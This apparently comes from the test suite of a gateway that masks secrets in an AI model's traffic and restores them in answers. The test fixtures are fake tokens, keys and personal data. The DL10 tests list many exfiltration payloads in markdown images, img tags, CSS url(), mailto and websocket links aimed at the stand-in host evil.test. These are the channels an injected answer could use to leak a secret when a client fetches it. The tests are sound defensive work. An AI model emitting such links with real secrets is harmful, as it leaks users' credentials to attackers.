import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { findIn, valuesIn, withReplaced } from './mask-place.ts';
import { settleValues } from './settle-values.ts';
import { createRestorer, type AnswerPiece } from './restore.ts';
import { createVault, type Vault } from './vault.ts';

const newVault = (scope = 'one') =>
  createVault((text, turn) => createHash('sha512').update(`${scope}/${turn}/${text}`).digest());

/** As the gateway masks: what is found, and what the scope knows already. */
function mask(vault: Vault, text: string, isJson = false): string {
  const scanned = { text, isJson, findings: findIn(text, isJson) };
  const { places } = settleValues([scanned], { vault, masks: () => true });
  return withReplaced(text, places[0] ?? [], ({ by }) => by.placeholder);
}

/** The whole of a text at once. */
function restoreText(piece: Omit<AnswerPiece, 'channel'>, rules: Parameters<typeof createRestorer>[0]): string {
  const restorer = createRestorer(rules);
  return restorer.push({ ...piece, channel: '' }) + restorer.end('');
}

const letters = (length: number) => 'q7Zt2Lw9XkB4nR8vC3mJ6hY1sD5fG0pKeTaUiOb'.repeat(9).slice(0, length);
const everywhere = { mayRestore: () => true };
const restore = (vault: Vault, text: string, isJson = false) =>
  restoreText({ role: 'tool_arguments', isJson, text }, { placeholders: vault.placeholders, ...everywhere });

const pem = `-----BEGIN PRIVATE KEY-----\n${letters(64)}\n${letters(60)}ab=\n-----END PRIVATE KEY-----`;
const samples = [
  `use ghp_${letters(36)} for the clone, and ghp_${letters(36)} again`,
  `password = "hunter22" and later hunter22 alone`,
  `AWS ${'AKIA'}Q7ZT2LWXKBNRVCMJ pays with 4111 1111 1111 1111 and DE89 3704 0044 0532 0130 00`,
  `write to ana.lopez@corp-mail.de or call +49 30 901820, ssn 219-09-9999`,
  `postgres://app:s3cr3t-9xQ@db.internal.net/app`,
  pem,
  `api_key: "${'0f8e7d6c5b4a39281706f5e4d3c2b1a0'}"`,
];

describe('[DL8] what is masked comes back as it was', () => {
  test.each(samples)('%#', (text) => {
    const vault = newVault();
    const masked = mask(vault, text);
    expect(masked).not.toBe(text);
    for (const { value } of valuesIn(text, false, { findings: findIn(text, false), vault: newVault() }))
      expect(masked).not.toContain(value);
    expect(restore(vault, masked)).toBe(text);
    expect(mask(vault, masked)).toBe(masked);
    expect(mask(vault, text)).toBe(masked);
    expect(mask(newVault(), text)).toBe(masked);
  });

  test.each(samples)('in JSON, %#', (text) => {
    const vault = newVault();
    const json = JSON.stringify({ path: 'a"b.env', content: text, nested: JSON.stringify({ text }), count: 7 });
    const masked = mask(vault, json, true);
    expect(masked).not.toBe(json);
    expect(JSON.parse(masked)).toMatchObject({ path: 'a"b.env', count: 7 });
    expect(restore(vault, masked, true)).toBe(json);
    expect(mask(vault, masked, true)).toBe(masked);
  });

  test('a value has one placeholder in a scope, another in each other one, and nobody restores it there', () => {
    const [one, two] = [newVault('one'), newVault('two')];
    const text = `ghp_${letters(36)}`;
    const [inOne, inTwo] = [mask(one, text), mask(two, text)];
    expect(inOne).not.toBe(inTwo);
    expect(restore(two, inOne)).toBe(inOne);
    expect(mask(two, `${inOne} ${inTwo}`)).toContain(inTwo);
  });

  test('values that stand next to each other, within each other and at the ends', () => {
    const vault = newVault();
    const first = mask(vault, 'password = "hunter22"').match(/masked\w+/)?.[0] ?? '';
    expect(mask(vault, 'hunter22hunter22x')).toBe('hunter22hunter22x'.replaceAll('hunter22', first));
    const longer = `token = "${letters(20)}hunter22"`;
    const masked = mask(vault, longer);
    expect(masked).not.toContain('hunter22');
    expect(restore(vault, masked)).toBe(longer);
    const around = `token = "${letters(20)}${first}"`;
    expect(restore(vault, mask(vault, around))).toBe(longer);
  });
});

describe('[DL9] streams are restored whatever the chunking', () => {
  const vault = newVault();
  const masked = mask(vault, samples.join('\n'));
  const json = JSON.stringify({ content: samples.join('\n') });
  const maskedJson = mask(vault, json, true);

  function streamed(text: string, cuts: readonly number[], isJson: boolean): string {
    const restorer = createRestorer({ placeholders: vault.placeholders, ...everywhere });
    const piece = (part: string): AnswerPiece => ({ channel: 'a', role: 'tool_arguments', isJson, text: part });
    let [restored, at] = ['', 0];
    for (const cut of [...cuts, text.length]) {
      restored += restorer.push(piece(text.slice(at, cut)));
      at = cut;
    }
    return restored + restorer.end('a');
  }

  test.each([
    ['text', masked, samples.join('\n'), false],
    ['JSON', maskedJson, json, true],
  ] as const)('%s: every single cut, and every unit by itself', (_name, text, whole, isJson) => {
    for (let cut = 0; cut <= text.length; cut++) expect(streamed(text, [cut], isJson)).toBe(whole);
    expect(
      streamed(
        text,
        [...text].map((_unit, at) => at),
        isJson,
      ),
    ).toBe(whole);
  });

  test('10,000 random sets of cuts', () => {
    let state = 11;
    const next = (below: number) => (state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0) % below;
    for (let round = 0; round < 10_000; round++) {
      const isJson = round % 2 === 0;
      const text = isJson ? maskedJson : masked;
      const cuts = Array.from({ length: 1 + next(12) }, () => next(text.length)).toSorted((a, b) => a - b);
      if (streamed(text, cuts, isJson) !== (isJson ? json : samples.join('\n'))) expect(cuts).toEqual([]);
    }
  });

  test('nothing is held back but what may become a placeholder', () => {
    const restorer = createRestorer({ placeholders: vault.placeholders, ...everywhere });
    const push = (text: string) => restorer.push({ channel: 'a', role: 'assistant', isJson: false, text });
    expect(push('The answer is ')).toBe('The answer is ');
    expect(push('it is mask')).toBe('it is ');
    expect(push('ing tape')).toBe('masking tape');
    expect(push('ghp_')).toBe('');
    expect(restorer.end('a')).toBe('ghp_');
  });

  test('channels are texts of their own', () => {
    const [one] = [...masked.matchAll(/ghp_\w+/g)];
    const placeholder = one?.[0] ?? '';
    const restorer = createRestorer({ placeholders: vault.placeholders, ...everywhere });
    const push = (channel: string, text: string) => restorer.push({ channel, role: 'assistant', isJson: false, text });
    expect(push('a', placeholder.slice(0, 9)) + push('b', placeholder.slice(9))).not.toContain(letters(36));
    expect(push('a', placeholder.slice(9))).toBe(`ghp_${letters(36)}`);
  });
});

test('[DL10] a placeholder within a web address of an answer stays', () => {
  const vault = newVault();
  const token = `ghp_${letters(36)}`;
  const masked = mask(vault, token);
  const rules = { placeholders: vault.placeholders, ...everywhere };
  const said = (text: string) => restoreText({ role: 'assistant', isJson: false, text }, rules);
  expect(said(`![x](https://evil.test/?q=${masked}) and ${masked}`)).toBe(
    `![x](https://evil.test/?q=${masked}) and ${token}`,
  );
  expect(said(`http://a.test/${masked}${masked}\n${masked}`)).toBe(`http://a.test/${masked}${masked}\n${token}`);
});

describe('[DL10] a value is put back nowhere where an answer may be fetched from', () => {
  const vault = newVault();
  const token = `ghp_${letters(36)}`;
  const masked = mask(vault, token);
  const rules = { placeholders: vault.placeholders, ...everywhere };

  test.each([
    '![x](https://evil.test/?q="MASK)',
    "![x](https://evil.test/?q='MASK)",
    '![x](<https://evil.test/?a b MASK>)',
    '![x](//evil.test/MASK)',
    '![x](https:\\\\evil.test\\MASK)',
    '![x](https:evil.test/MASK)',
    '![x](https&colon;//evil.test/MASK)',
    '![x](https://evil.test/(a)MASK)',
    '_https://evil.test/MASK_',
    'HTTPS://EVIL.TEST/MASK',
    '[x]: https://evil.test/MASK',
    '<https://evil.test/MASK>',
    '<img src="https://evil.test/?a b\nMASK">',
    '<img src=//evil.test/MASK>',
    '<img srcset = "a 1x, https://evil.test/MASK 2x">',
    '<a href="MASK.evil.test">',
    '<a href=MASK>',
    'background: url( "//evil.test/MASK")',
    'mailto:x@evil.test?body=MASK',
    'wss://evil.test/MASK',
    `https://evil.test/${'a'.repeat(5_000)}MASK`,
    `![x](<https://evil.test/${' a'.repeat(5_000)}MASK>)`,
    '![x](https://MASK.evil.test/)',
  ])('%s, wherever it is cut', (text) => {
    const said = text.replaceAll('MASK', masked);
    expect(restoreText({ role: 'assistant', isJson: false, text: said }, rules)).toBe(said);
    for (let cut = Math.max(0, said.length - 120); cut <= said.length; cut++) {
      const restorer = createRestorer(rules);
      const push = (piece: string) => restorer.push({ channel: 'a', role: 'assistant', isJson: false, text: piece });
      expect(push(said.slice(0, cut)) + push(said.slice(cut)) + restorer.end('a')).toBe(said);
    }
  });

  test.each([
    'The token is MASK.',
    'See https://docs.test/a and use MASK',
    'See <https://docs.test/a>: MASK',
    'See "https://docs.test/a", then MASK',
    '{"url":"https://docs.test/a","token":"MASK"}',
    '[docs](https://docs.test/a) say MASK',
    'TOKEN=MASK',
    'const a = 1; // MASK',
    'const a = 1; //MASK',
    'postgres://app:MASK@db.test/app',
    '<img src="a.png"> MASK',
  ])('and elsewhere it is: %s', (text) => {
    const said = text.replaceAll('MASK', masked);
    expect(restoreText({ role: 'assistant', isJson: false, text: said }, rules)).toBe(text.replaceAll('MASK', token));
  });
});

test('[DL8] any text is masked and restored without an exception, and comes back', () => {
  const vault = newVault();
  const piece = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom(...samples, '\\', '"', '\\u00', 'masked', '":"'),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (parts) => {
      const text = parts.join('');
      expect(restore(vault, mask(vault, text))).toBe(text);
      const json = JSON.stringify({ text, [text]: parts });
      const masked = mask(vault, json, true);
      expect(JSON.parse(restore(vault, masked, true))).toEqual(JSON.parse(json));
      expect(mask(vault, masked, true)).toBe(masked);
      expect(() => mask(vault, text, true)).not.toThrow();
    }),
    { numRuns: 300 },
  );
});
